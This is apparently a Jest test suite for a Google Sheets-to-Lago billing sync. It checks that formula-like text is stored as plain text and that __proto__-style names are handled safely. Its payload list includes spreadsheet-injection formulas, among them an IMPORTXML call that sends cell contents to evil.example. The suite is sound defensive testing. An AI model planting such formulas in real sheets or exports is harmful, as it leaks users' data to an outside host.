import { FakeRange } from '../../sandbox/runtime/spreadsheet';
import { activate, createWorld, draftOf, fireHourly, HOUR, type World } from '../bundle/world';

/** What Sheets or a program that opens an export may take for a formula, or for something else than text. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example","Click")',
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  "'=1+1",
  "''quoted",
  '=',
  '007',
  '1e5',
  '2026-11-03',
  'TRUE',
  '#N/A!',
];
/** These begin with white space, which Lago takes away from ids: they stand in notes. */
const SPACED = ['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1'];

const HEADERS = ['=1+1', '+subscription', '-time', '@amount', "'=note"];
const TAB = '=1+1 usage';
const SYNC = '=HYPERLINK("https://evil.example")';

const template = `{ "transaction_id": "{{ row.id }}", "external_subscription_id": "{{ row.subscription }}", "code": "=code",
  "timestamp": {{ row.time | unix }}, "properties": { "amount": {{ row.amount }}, "note": "{{ row.note }}" } }`;

/** As a person enters a text that would be taken for something else. */
const typed = (text: string): string => `'${text}`;

const rowsOf = (ids: readonly string[], notes: readonly string[]): string[][] =>
  ids.map((id, index) => [
    typed(id),
    typed(FORMULAS[index % 2] ?? ''),
    '2026-11-03 10:00',
    String(index + 1),
    typed(notes[index] ?? id),
  ]);

function worldWith(
  ids: readonly string[],
  notes: readonly string[] = [],
): { readonly world: World; readonly id: string } {
  const world = createWorld({
    headers: HEADERS.map(typed),
    rows: rowsOf(ids, notes),
    metrics: [{ name: '=name', code: '=code', aggregation_type: 'sum_agg', field_name: 'amount' }],
  });
  world.lago.seed.catalog({
    customers: [{ external_id: '=customer', currency: 'EUR', timezone: 'UTC' }],
    subscriptions: FORMULAS.slice(0, 2).map((external_id) => ({
      external_customer_id: '=customer',
      plan_code: 'p',
      external_id,
      subscription_at: '2026-09-01T00:00:00Z',
    })),
  });
  world.google.spreadsheet.renameSheet('usage', TAB);
  world.ask('connect', {
    address: 'https://lago.example',
    apiKey: 'f00dfeed-1111-4222-8333-abcdefabcdef',
  });
  const columns = (['id', 'subscription', 'time', 'amount', 'note'] as const).map(
    (name, index) => ({
      name,
      header: HEADERS[index] ?? '',
    }),
  );
  const draft = draftOf(world);
  const tabId = world.google.spreadsheet.sheets[0]?.id ?? -1;
  const sync = world.ask('saveSync', {
    draft: {
      ...draft,
      name: SYNC,
      template,
      source: { ...draft.source, tabId, tabName: TAB, columns },
    },
  });
  const withStatuses = world.ask('setStatusColumn', {
    id: sync.id,
    revision: sync.revision,
    column: 'new',
  });
  world.ask('activate', {
    id: sync.id,
    revision: withStatuses.sync.revision,
    changed: 'flag',
    removed: 'flag',
    onEdit: false,
  });
  return { world, id: sync.id };
}

/** Every text that the product writes into a cell, as it hands it to Google. */
const written: string[] = [];

beforeEach(() => {
  written.length = 0;
  const { setValues } = FakeRange.prototype;
  jest.spyOn(FakeRange.prototype, 'setValues').mockImplementation(function (
    this: FakeRange,
    values,
  ) {
    for (const value of values.flat()) if (typeof value === 'string') written.push(value);
    return setValues.call(this, values);
  });
});
afterEach(() => jest.restoreAllMocks());

/** JSON of the machine's own, an apostrophe that makes a cell text, or plain words of the product. */
const isHarmless = (text: string): boolean =>
  text === '' || /^(?:\{"|'|[A-Za-z][A-Za-z ’()]*$)/.test(text);

function expectOnlyTexts({ google }: World): void {
  expect(written.length).toBeGreaterThan(20);
  expect(written.filter((text) => !isHarmless(text))).toEqual([]);
  const formulas = google.spreadsheet.sheets.flatMap(({ name }) =>
    google.spreadsheet
      .table(name)
      .flatMap((line, row) =>
        line.map((_, column) => google.spreadsheet.cell(name, row + 1, column + 1)),
      )
      .filter(({ formula }) => formula !== undefined),
  );
  expect(formulas).toEqual([]);
}

const sheetThatBegins = ({ google }: World, name: string): string[][] => {
  const found = google.spreadsheet.sheets.find((sheet) => sheet.name.startsWith(name));
  return found === undefined ? [] : google.spreadsheet.table(found.name);
};
const column = (lines: readonly (readonly string[])[], index: number): string[] =>
  lines.slice(1).map((line) => line[index] ?? '');

describe('a text that looks like a formula', () => {
  test('as a key, subscription, code, note, header, tab and name is text wherever it is written, and in Lago what it was', () => {
    const { world, id } = worldWith(FORMULAS);
    fireHourly(world);
    expect(
      world.lago
        .events()
        .map(({ transactionId, properties }) => [transactionId, properties['note']]),
    ).toEqual(FORMULAS.map((text) => [text, text]));
    const ledger = sheetThatBegins(world, 'Lago ledger');
    expect(column(ledger, 5)).toEqual(FORMULAS);
    expect(column(ledger, 3)).toEqual(FORMULAS.map(() => 'accepted'));
    world.ask('runNow', { id });
    const [part] = [world.ask('reconcile', { id, month: '2026-11' })];
    expect(part.next).toBeUndefined();
    world.ask('statement', { id, month: '2026-11', subscription: FORMULAS[1] ?? '' });
    world.ask('statement', { id, month: '2026-11', customer: '=customer' });
    world.ask('activity', { id });
    expect(column(sheetThatBegins(world, 'Lago runs'), 2)).toEqual([SYNC, SYNC]);
    const statement = sheetThatBegins(world, 'Statement =HYPERLINK');
    expect(statement.flat()).toEqual(expect.arrayContaining([FORMULAS[1], FORMULAS[3], '=code']));
    expect(world.google.spreadsheet.table(TAB)[0]).toEqual([...HEADERS, 'Lago status']);
    expectOnlyTexts(world);
  });

  test('in a note is in Lago what it was, also where it begins with white space', () => {
    const notes = [...SPACED, 'plain'];
    const { world } = worldWith(['a', 'b', 'c', 'd', 'e'], notes);
    fireHourly(world);
    expect(world.lago.events().map(({ properties }) => properties['note'])).toEqual(notes);
    expectOnlyTexts(world);
  });

  test('in Lago’s own refusals, ids and numbers is text in the ledger, the statuses, the runs and the findings', () => {
    const { world, id } = worldWith(FORMULAS);
    world.intercept = ({ url, method }) =>
      url.endsWith('/events/batch') && method === 'post'
        ? {
            status: 422,
            headers: {},
            body: JSON.stringify({
              status: 422,
              error: '=error',
              code: '=code',
              error_details: Object.fromEntries(FORMULAS.map((text, index) => [index, text])),
            }),
          }
        : undefined;
    fireHourly(world);
    const ledger = sheetThatBegins(world, 'Lago ledger');
    expect(column(ledger, 4)).toEqual(FORMULAS);
    expect(column(ledger, 3)).toEqual(FORMULAS.map(() => 'rejected'));
    expect(
      column(world.google.spreadsheet.table(TAB), 5).every((status) =>
        status.startsWith('Refused: '),
      ),
    ).toBe(true);
    world.intercept = ({ url, method }) => {
      if (method !== 'get' || !/\/events\?/.test(url)) return undefined;
      const events = FORMULAS.map((text) => ({
        transaction_id: `${text}x`,
        external_subscription_id: FORMULAS[0],
        code: '=code',
        timestamp: '2026-11-03T10:00:00.000Z',
        properties: { amount: text, [text]: text },
      }));
      return {
        status: 200,
        headers: {},
        body: JSON.stringify({
          events,
          meta: { total_count: events.length, total_pages: 1, current_page: 1, next_page: null },
        }),
      };
    };
    const part = world.ask('reconcile', { id, month: '2026-11' });
    expect(column(sheetThatBegins(world, 'Lago reconciliation'), 3)).toEqual(
      expect.arrayContaining(FORMULAS.map((text) => `${text}x`)),
    );
    expect(part.counts.foreign).toBe(FORMULAS.length);
    world.intercept = () => ({
      status: 500,
      headers: {},
      body: '=HYPERLINK("https://evil.example")',
    });
    world.time.now += HOUR;
    fireHourly(world);
    expect(column(sheetThatBegins(world, 'Lago runs'), 11).at(-1)).not.toBe('');
    expectOnlyTexts(world);
  });

  test('as the header of a new column of ids is a header', () => {
    const { world } = worldWith(['a', 'b', 'c']);
    const tabId = world.google.spreadsheet.sheets[0]?.id ?? -1;
    for (const text of FORMULAS.filter((each) => each !== "'=1+1" && !HEADERS.includes(each))) {
      const { header, filled } = world.ask('fillIds', { tabId, headerRow: 1, header: text });
      expect([header, filled]).toEqual([text, 3]);
      // Asked again, it is found.
      expect(world.ask('fillIds', { tabId, headerRow: 1, header: text }).filled).toBe(0);
    }
    expectOnlyTexts(world);
  });

  test('of 60,000 characters, as Lago’s answer or as an id in Lago, is cut to what a cell holds', () => {
    const { world, id } = worldWith(['a', 'b']);
    const long = `=${'x'.repeat(60_000)}`;
    fireHourly(world);
    world.intercept = ({ url }) =>
      /\/events\?/.test(url)
        ? {
            status: 200,
            headers: {},
            body: JSON.stringify({
              events: [
                {
                  transaction_id: long,
                  external_subscription_id: FORMULAS[0],
                  code: '=code',
                  timestamp: '2026-11-03T10:00:00Z',
                },
              ],
              meta: { total_count: 1, total_pages: 1 },
            }),
          }
        : undefined;
    world.lago.rewriteEvents(() => []);
    const part = world.ask('reconcile', { id, month: '2026-11' });
    expect(part.next).toBeUndefined();
    expect(part.counts).toMatchObject({ missing: 2, foreign: 1 });
    expect(written.map(({ length }) => length).sort((left, right) => right - left)[0]).toBe(50_000);
    expectOnlyTexts(world);
  });
});

describe('headers, names and texts that every object has', () => {
  const NAMES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];

  test('work as columns, keys and properties from the sheet to Lago, and an unchanged row stays unchanged', () => {
    const rows = NAMES.map((name, index) => [
      name,
      'acme',
      '2026-11-03 10:00',
      String(index + 1),
      name,
    ]);
    const headers = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf'];
    const world = createWorld({ headers, rows });
    const odd = `{ "transaction_id": "{{ row.constructor }}", "external_subscription_id": "{{ row.__proto__ }}", "code": "calls",
      "timestamp": {{ row.toString | unix }}, "properties": { "amount": {{ row.hasOwnProperty }}, "__proto__": "{{ row.valueOf }}", "constructor": 1 } }`;
    world.ask('connect', {
      address: 'https://lago.example',
      apiKey: 'f00dfeed-1111-4222-8333-abcdefabcdef',
    });
    const sync = world.ask('saveSync', {
      draft: { ...draftOf(world, headers, odd), key: 'constructor' },
    });
    world.ask('activate', {
      id: sync.id,
      revision: sync.revision,
      changed: 'flag',
      removed: 'flag',
      onEdit: false,
    });
    for (let run = 0; run < 3; run++) {
      expect(fireHourly(world).error).toBeUndefined();
      world.time.now += HOUR;
    }
    expect(world.lago.events().map(({ transactionId }) => transactionId)).toEqual(NAMES);
    expect(world.ask('open', {}).syncs[0]?.lastRun?.rows).toMatchObject({
      sent: 4,
      flag: 0,
      hold: 0,
    });
    world.google.spreadsheet.edit('usage', 2, 5, 'changed');
    fireHourly(world);
    expect(world.ask('open', {}).syncs[0]?.lastRun?.rows).toMatchObject({ sent: 3, flag: 1 });
  });
});

test('a sync with an ordinary sheet is not touched by any of this', () => {
  const world = createWorld({ rows: [['r1', 'acme', '2026-11-03 10:00', '1']] });
  activate(world);
  fireHourly(world);
  expect(world.lago.events()).toHaveLength(1);
});
